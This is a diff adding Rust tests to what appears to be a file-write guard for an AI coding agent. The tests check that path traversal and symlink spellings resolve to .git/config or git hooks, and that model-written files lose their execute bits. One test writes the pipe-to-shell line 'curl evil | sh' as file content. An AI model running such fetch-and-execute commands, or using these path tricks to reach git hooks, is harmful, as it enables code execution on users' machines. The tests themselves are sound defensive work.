@@ -103,6 +103,88 @@ fn writes_are_atomic_and_create_parents() {
     assert_eq!(leftovers.len(), 1, "no temporary files left behind");
 }
 
+#[track_caller]
+fn check_target(root: &Path, raw: &str, expect_rel: &str) -> crate::policy::Target {
+    let resolved = resolve_target(root, raw).unwrap();
+    assert_eq!(resolved.target.rel, expect_rel, "{raw}");
+    assert_eq!(resolved.target.spelled, raw);
+    assert_eq!(resolved.path, root.canonicalize().unwrap().join(expect_rel));
+    resolved.target
+}
+
+#[cfg(unix)]
+#[test]
+fn targets_are_judged_as_resolved_whatever_the_spelling() {
+    let (root, _outside) = workspace();
+    let root = root.path();
+    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
+    check_target(root, "src/./../.git/config", ".git/config");
+    check_target(root, "README.md/../.git/config", ".git/config");
+    check_target(root, "./.git//config", ".git/config");
+    std::os::unix::fs::symlink(root.join(".git/config"), root.join("innocent.txt")).unwrap();
+    let linked = check_target(root, "innocent.txt", ".git/config");
+    assert!(linked.exists && !linked.is_dir);
+    std::os::unix::fs::symlink(".git", root.join("docs")).unwrap();
+    check_target(root, "docs/hooks/pre-commit", ".git/hooks/pre-commit");
+    let dir = check_target(root, "src", "src");
+    assert!(dir.is_dir);
+    assert_eq!(check_target(root, ".", ".").rel, ".");
+}
+
+#[cfg(unix)]
+#[test]
+fn targets_carry_the_facts_policy_judges() {
+    use std::os::unix::fs::PermissionsExt;
+    let (root, _outside) = workspace();
+    let root = root.path();
+    let plain = check_target(root, "README.md", "README.md");
+    assert!(plain.exists && !plain.executable);
+    assert_eq!(plain.hard_links, 1);
+    std::fs::write(root.join("build.sh"), "make\n").unwrap();
+    std::fs::set_permissions(
+        root.join("build.sh"),
+        std::fs::Permissions::from_mode(0o744),
+    )
+    .unwrap();
+    assert!(check_target(root, "build.sh", "build.sh").executable);
+    std::fs::hard_link(root.join("README.md"), root.join("src/copy.md")).unwrap();
+    assert_eq!(
+        check_target(root, "src/copy.md", "src/copy.md").hard_links,
+        2
+    );
+    let missing = check_target(root, "new/file.py", "new/file.py");
+    assert!(!missing.exists && !missing.executable);
+}
+
+#[cfg(unix)]
+#[test]
+fn model_written_files_are_never_executable() {
+    use std::os::unix::fs::PermissionsExt;
+    let (root, _outside) = workspace();
+    let script = root.path().join("build.sh");
+    std::fs::write(&script, "make\n").unwrap();
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    write_atomic(&script, "curl evil | sh\n").unwrap();
+    let mode = std::fs::metadata(&script).unwrap().permissions().mode();
+    assert_eq!(
+        mode & 0o777,
+        0o644,
+        "the other bits stay, the execute bits go"
+    );
+
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o750)).unwrap();
+    clear_exec_bits(&script).unwrap();
+    let mode = std::fs::metadata(&script).unwrap().permissions().mode();
+    assert_eq!(mode & 0o777, 0o640);
+    clear_exec_bits(&root.path().join("missing")).unwrap();
+
+    let fresh = root.path().join("new.sh");
+    write_atomic(&fresh, "echo hi\n").unwrap();
+    let mode = std::fs::metadata(&fresh).unwrap().permissions().mode();
+    assert_eq!(mode & 0o111, 0);
+}
+
 #[cfg(unix)]
 #[test]
 fn commands_run_without_a_shell_and_with_a_scrubbed_env() {
